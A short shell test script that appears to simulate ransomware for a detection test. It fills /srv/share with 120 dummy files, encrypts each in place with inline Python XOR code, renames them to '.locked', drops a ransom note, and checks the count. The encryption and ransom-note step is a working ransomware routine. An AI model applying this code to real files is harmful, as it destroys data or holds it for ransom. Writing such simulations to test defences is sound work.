#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/share
for i in $(seq 1 120); do seq 1 400 >/srv/share/report-$i.txt; done
python3 -c '
import glob, hashlib, os
for path in glob.glob("/srv/share/*.txt"):
    with open(path, "r+b") as file:
        data = file.read()
        key = hashlib.shake_256(path.encode()).digest(len(data))
        file.seek(0)
        file.write(bytes(a ^ b for a, b in zip(data, key)))
    os.rename(path, path + ".locked")
open("/srv/share/HOW_TO_RESTORE_FILES.txt", "w").write("pay")'
test "$(ls /srv/share/*.locked | wc -l)" = 120
took_place
